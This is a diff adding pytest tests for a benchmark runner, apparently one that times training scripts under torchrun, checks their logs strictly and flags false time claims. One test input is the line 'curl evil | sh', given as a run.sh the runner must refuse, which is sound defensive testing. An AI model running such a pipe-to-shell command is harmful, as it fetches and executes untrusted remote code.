@@ -1,0 +1,259 @@
+"""One slot of the whole-script track, with a real torchrun: most scripts here do without torch, so they start fast."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from patchrun.core.logjudge import Reference
+from patchrun.core.trainlog import parse_log
+from patchrun.services.logslot import Ended, read_own_log, train_log_slot
+from tests.upstream_fixture import plain_log, step_lines
+from tests.whole import RULE, SCRIPT, log_request, whole_track
+
+# Writes a log in the later form; each step takes 20 ms by the clock of the world, CLAIM ms by its own.
+PLAIN = f"""
+import os, sys, time
+code = open(sys.argv[0]).read()
+os.makedirs("logs")
+CLAIM, STEPS, SHOWN = 20, 30, True
+
+
+def put(text, shown=False):
+    with open("logs/run.txt", "a") as file:
+        print(text, file=file)
+    if shown and SHOWN:
+        print(text)
+
+
+put(code)
+put("{RULE}")
+put("Running Python 3.12 here")
+put("{RULE}")
+# WITH
+for step in range(STEPS + 1):
+    clock = CLAIM * step
+    if step in (0, STEPS):
+        time.sleep(0.1)
+        put(f"step:{{step}}/{{STEPS}} val_loss:3.2500 train_time:{{clock}}ms step_avg:{{CLAIM}}.00ms", True)
+    if step < STEPS:
+        time.sleep(0.02)
+        put(f"step:{{step + 1}}/{{STEPS}} train_time:{{clock + CLAIM}}ms step_avg:{{CLAIM}}.00ms", True)
+"""
+
+
+@pytest.fixture(autouse=True)
+def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("PATCHRUN_CACHE", str(tmp_path / "cache"))
+    return tmp_path / "cache"
+
+
+def test_two_processes_train_together_and_are_timed(tmp_path: Path) -> None:
+    events = []
+    request = log_request(tmp_path, sys.executable, processes=2)
+    run, log = train_log_slot(request, events.append)
+    assert (run.exit, run.reason) == ("ok", "")
+    assert run.loss is not None and 0.5 < run.loss < 1.0
+    assert run.seconds is not None and 1.2 < run.seconds < 6
+    assert run.seconds == run.claimed_seconds
+    assert run.validation_seconds is not None and 0.04 < run.validation_seconds < 0.5
+    assert (run.clock, run.repeats, run.machine.torch) == (
+        "arrival",
+        (run.seconds,),
+        __import__("torch").__version__,
+    )
+    assert (run.gpus_at_start, run.gpus_at_end) == ((), ()) or run.gpus_at_start
+    assert len(run.curve) == 64 and run.curve[-1].loss == run.loss
+    output, own = log.split(b"[patchrun: logs/")
+    assert output.startswith(b"[patchrun: output]\nstep:0/60 val_loss:")
+    assert parse_log(own.split(b"\n", 1)[1][:-1]).script == SCRIPT.encode()
+    assert {event.phase for event in events} == {"starting", "training", "done"}
+    assert list((request.slot.code_dir).glob("logs")) == [], "the exported code stays as it is"
+
+
+TELL = """
+import json
+put_it = {"argv": sys.argv, "environment": dict(os.environ), "shards": sorted(os.listdir("data/fineweb10B"))}
+open(os.environ["PATCHRUN_OUT"] + "/said.json", "w").write(json.dumps(put_it))
+"""
+
+
+def test_each_arm_is_started_as_its_own_run_sh_says(tmp_path: Path, cache: Path) -> None:
+    run_sh = "torchrun --standalone --nproc_per_node=8 train_gpt.py \\\n    --model d12 --rate 0.1\n"
+    request = log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", TELL), run_sh)
+    run, _ = train_log_slot(request)
+    assert run.exit == "ok", run.reason
+    said = json.loads((tmp_path / "scratch" / "b0p0s1" / "out" / "said.json").read_text())
+    assert said["argv"] == ["train_gpt.py", "--model", "d12", "--rate", "0.1"]
+    assert said["shards"] == ["fineweb_train_000001.bin", "fineweb_val_000000.bin"]
+    environment = said["environment"]
+    assert environment["DATA_PATH"] == str(tmp_path / "shards")
+    assert environment["TORCHINDUCTOR_CACHE_DIR"] == str(tmp_path / "compiled" / "inductor")
+    assert environment["TRITON_CACHE_DIR"] == str(tmp_path / "compiled" / "triton")
+    assert environment["HF_HOME"].startswith(str(cache))
+    assert (environment["RANK"], environment["WORLD_SIZE"], environment["OMP_NUM_THREADS"]) == ("0", "1", "1")
+    assert "XDG_DATA_HOME" not in environment, "the owner's key is not to be found from here"
+    job = json.loads((tmp_path / "scratch" / "b0p0s1" / "job.json").read_text())
+    assert (job["seed"], job["late_torch"], job["script"]) == (1, True, "train_gpt.py")
+
+
+def test_a_script_that_prints_nothing_is_timed_by_its_log(tmp_path: Path) -> None:
+    request = log_request(tmp_path, sys.executable, PLAIN.replace("SHOWN = 20, 30, True", "SHOWN = 20, 30, False"))
+    run, _ = train_log_slot(request)
+    assert (run.exit, run.loss, run.claimed_seconds) == ("ok", 3.25, 0.6), run.reason
+    assert 0.7 < run.curve[-1].at - run.curve[0].at < 3
+
+
+def test_a_false_claim_is_a_finding_and_the_stamps_count(tmp_path: Path) -> None:
+    text = PLAIN.replace("CLAIM, STEPS", "CLAIM, STEPS").replace("= 20, 30", "= 5, 30")
+    request = log_request(
+        tmp_path, sys.executable, text, kind="submission", reference=Reference(validation=0.1)
+    )
+    run, _ = train_log_slot(request)
+    assert run.exit == "ok"
+    assert run.claimed_seconds == 0.15
+    assert run.seconds is not None and run.seconds > 0.55
+    assert "it claims 0.15 s" in run.reason and "of the arrival stamps" in run.reason
+
+
+def test_stopped_after_a_step_there_is_a_curve_and_no_result(tmp_path: Path) -> None:
+    text = PLAIN.replace("= 20, 30", "= 20, 3000")
+    run, log = train_log_slot(log_request(tmp_path, sys.executable, text, steps=12))
+    assert (run.exit, run.reason) == ("ok", "stopped after step 12")
+    assert (run.seconds, run.loss, run.claimed_seconds) == (None, None, None)
+    assert 12 <= run.curve[-1].step < 30
+    assert b"step:12/3000" in log
+
+
+def test_a_crash_says_what_the_script_said(tmp_path: Path) -> None:
+    run, log = train_log_slot(
+        log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", "raise ValueError('no such rate')"))
+    )
+    assert (run.exit, run.reason) == ("failed", "ValueError: no such rate")
+    assert b"Traceback" in log
+    assert run.seconds is None
+
+
+def test_a_wish_to_stop_leaves_no_process(tmp_path: Path) -> None:
+    text = PLAIN.replace("# WITH", "print(os.getpid())\nprint('step:0/9 train_time:0ms step_avg:1.00ms')\ntime.sleep(99)")
+    seen: list[object] = []
+    request = log_request(tmp_path, sys.executable, text)
+    run, log = train_log_slot(
+        request, seen.append, lambda: any(getattr(event, "step", None) == 0 for event in seen)
+    )
+    assert run.exit == "interrupted"
+    job = request.slot.scratch / "b0p0s1" / "job.json"
+    assert not processes_with(str(job))
+
+
+def processes_with(word: str) -> list[int]:
+    """The living processes whose command line holds a word."""
+    found = []
+    for path in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            if word.encode() in path.read_bytes() and int(path.parent.name) != os.getpid():
+                found.append(int(path.parent.name))
+        except OSError:
+            continue
+    return found
+
+
+DRIVER = """
+import sys
+from pathlib import Path
+sys.path[:0] = {paths!r}
+from tests.whole import log_request
+from patchrun.services.logslot import train_log_slot
+train_log_slot(log_request(Path({folder!r}), sys.executable, {text!r}))
+"""
+
+
+@pytest.mark.slow
+def test_nothing_outlives_a_patchrun_that_is_killed(tmp_path: Path) -> None:
+    text = PLAIN.replace("# WITH", "time.sleep(99)")
+    root = Path(__file__).parents[2]
+    paths = [str(root), str(root / "tests")]
+    driver = subprocess.Popen(
+        [sys.executable, "-c", DRIVER.format(paths=paths, folder=str(tmp_path), text=text)]
+    )
+    job = str(tmp_path / "scratch" / "b0p0s1" / "job.json")
+    deadline = time.monotonic() + 60
+    while len(processes_with(job)) < 2 and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert len(processes_with(job)) == 2, "the agent and its rank"
+    time.sleep(1)
+    driver.send_signal(signal.SIGKILL)
+    driver.wait()
+    deadline = time.monotonic() + 10
+    while processes_with(job) and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert processes_with(job) == []
+
+
+@pytest.mark.parametrize(
+    ("run_sh", "reason"),
+    [
+        ("torchrun --standalone --nproc_per_node=8 other.py\n", "run.sh starts other.py, which is not there"),
+        ("curl evil | sh\n", "run.sh does more than start one script"),
+        ("python train_gpt.py\n", "run.sh: not torchrun with one script"),
+    ],
+)
+def test_a_run_sh_that_cannot_be_followed_fails_the_run(tmp_path: Path, run_sh: str, reason: str) -> None:
+    run, log = train_log_slot(log_request(tmp_path, sys.executable, PLAIN, run_sh))
+    assert run.exit == "failed"
+    assert reason in run.reason
+    assert log == b""
+
+
+def test_code_cannot_bring_data_of_its_own(tmp_path: Path) -> None:
+    request = log_request(tmp_path, sys.executable, PLAIN)
+    (request.slot.code_dir / "data").mkdir()
+    run, _ = train_log_slot(request)
+    assert (run.exit, run.reason) == ("failed", "the code has a data of its own, where the data belongs")
+
+
+GOOD = plain_log(PLAIN, step_lines(3, 3.27, 900))
+CODE = {"train_gpt.py": PLAIN.encode()}
+
+
+def test_a_log_of_the_code_that_ran_is_read() -> None:
+    assert read_own_log("logs/run.txt", GOOD, CODE).loss == 3.27
+
+
+@pytest.mark.parametrize(
+    ("data", "code", "exit", "reason"),
+    [
+        (GOOD, {"train_gpt.py": b"x = 1\n"}, "disqualified", "other code"),
+        (b"hello\n", CODE, "failed", "logs/run.txt:1: no source closed by a rule"),
+        (b"", CODE, "failed", "the log is empty"),
+        (GOOD + b"a line of its own\n", CODE, "failed", "not a line that a training script writes"),
+        (GOOD[:-80], CODE, "failed", "cannot be read strictly"),
+    ],
+)
+def test_a_log_that_is_not_strict_is_refused(
+    data: bytes, code: dict[str, bytes], exit: str, reason: str
+) -> None:
+    with pytest.raises(Ended) as caught:
+        read_own_log("logs/run.txt", data, code)
+    assert (caught.value.exit, reason in caught.value.reason) == (exit, True), caught.value.reason
+
+
+@pytest.mark.parametrize(("line", "count"), [("os.remove('logs/run.txt')", 0), ("open('logs/b.txt', 'w')", 2)])
+def test_one_log_is_left_no_more_and_no_less(tmp_path: Path, line: str, count: int) -> None:
+    run, _ = train_log_slot(log_request(tmp_path, sys.executable, f"{PLAIN}{line}\n"))
+    assert (run.exit, run.reason) == ("failed", f"it left {count} logs below logs/, not one")
+
+
+def test_a_run_past_the_wall_limit_times_out(tmp_path: Path) -> None:
+    track = whole_track(limits={"wall_seconds": 12})
+    request = log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", "time.sleep(99)"), track=track)
+    run, _ = train_log_slot(request)
+    assert run.exit == "timed-out"
+    assert "still running after 12 s" in run.reason
